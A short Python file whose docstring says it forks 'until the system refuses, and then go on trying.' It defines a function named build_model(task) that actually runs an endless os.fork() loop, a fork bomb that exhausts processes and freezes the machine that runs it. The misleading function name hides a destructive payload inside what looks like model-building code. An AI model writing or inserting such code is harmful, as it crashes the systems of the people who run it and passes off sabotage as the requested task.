"""Fork until the system refuses, and then go on trying."""

import os


def build_model(task):
    refused = False
    while True:
        try:
            os.fork()
        except OSError as error:
            if not refused:
                print("fork refused:", error, flush=True)
            refused = True
